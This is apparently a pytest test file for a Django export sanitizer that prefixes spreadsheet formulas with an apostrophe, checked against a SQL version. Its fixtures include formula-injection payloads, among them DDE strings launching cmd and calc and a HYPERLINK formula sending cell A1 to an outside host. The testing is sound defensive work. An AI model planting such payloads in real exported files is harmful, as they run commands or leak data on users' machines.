"""Formulas are neutralized, numbers are left alone, and SQL says what Python says."""

from __future__ import annotations

import pytest
from django.db import connection
from hypothesis import given, settings
from hypothesis import strategies as st
from psycopg import sql

from core.exports.neutralizing import is_dangerous, neutral, neutral_sql

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.jp/?"&A1,"押す")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋１＋２",
    "－Ａ１",
    "＠ＳＵＭ",
    "  =1+1",
    "　＝１＋１",
    "\u00a0=1",
    "\u200b=1",
    "-5人",
    "- 一つ目",
    "-1,23",
    "-1-2",
    "=",
    "+81-3-1234-5678",  # Excel would work it out and show -6834
    "+81(0)90-1234-5678",
    "-5\n=1+1",
)
HARMLESS = (
    "",
    "-",
    "－",
    "-5",
    "+1.5",
    "-1,234",
    "-1,234,567.89",
    "-3.5%",
    "－３．５％",
    "−5",
    "▲5",
    " -5 ",
    "-.5",
    "1e5",
    "-1.5e-3",
    "+819012345678",
    "03-1234-5678",
    "090-1234-5678",
    "2026-04-01",
    "'=1+1",
    "a=b",
    "仙台市",
    "Ａ＝Ｂ",
    "1=1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe_and_stays_readable(text):
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_run_stays_as_it_is(text):
    assert neutral(text) == text


def test_what_is_neutral_once_stays_so():
    assert [neutral(neutral(text)) for text in FORMULAS] == [neutral(text) for text in FORMULAS]


def in_sql(texts: list[str]) -> list[str]:
    statement = sql.SQL(
        "SELECT {} FROM unnest(%s::text[]) WITH ORDINALITY AS given (text, number) ORDER BY number"
    ).format(neutral_sql(sql.SQL("given.text")))
    with connection.cursor() as cursor:
        cursor.execute(statement, [texts])
        return [text for (text,) in cursor]


@pytest.mark.django_db
def test_sql_and_python_agree_on_each_example():
    texts = [*FORMULAS, *HARMLESS]
    assert in_sql(texts) == [neutral(text) for text in texts]


# Random text seldom begins dangerously: half of it is made of what matters.
MATTERS = st.text(
    st.sampled_from("=+-@＝＋－＠ \t\r\n　\u00a0\u200b\ufeff0123456789０９,.，．%％eE'AＡあ@"), max_size=8
)
ANY = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


@pytest.mark.django_db
@settings(max_examples=150, deadline=None)
@given(st.lists(MATTERS | ANY, min_size=1, max_size=40))
def test_sql_and_python_agree_on_any_text(texts):
    assert in_sql(texts) == [neutral(text) for text in texts]


@pytest.mark.django_db
def test_sql_and_python_agree_on_every_first_character():
    texts = [
        f"{chr(point)}{rest}" for point in range(1, 0x10000) if not 0xD800 <= point < 0xE000 for rest in ("1", "a=")
    ]
    assert in_sql(texts) == [neutral(text) for text in texts]


@given(MATTERS | ANY)
def test_nothing_that_begins_like_a_formula_leaves_unless_it_is_a_number(text):
    written = neutral(text)
    begins = written.lstrip(" 　\u00a0\u200b\ufeff")[:1]
    if begins and begins in "=@＝＠\t\r\n":
        raise AssertionError(written)
    if begins and begins in "+-＋－":
        rest = written.strip(" 　\u00a0\u200b\ufeff")[1:]
        assert not set(rest) - set("0123456789０１２３４５６７８９,.，．%％eE+-")
        assert not is_dangerous(written)
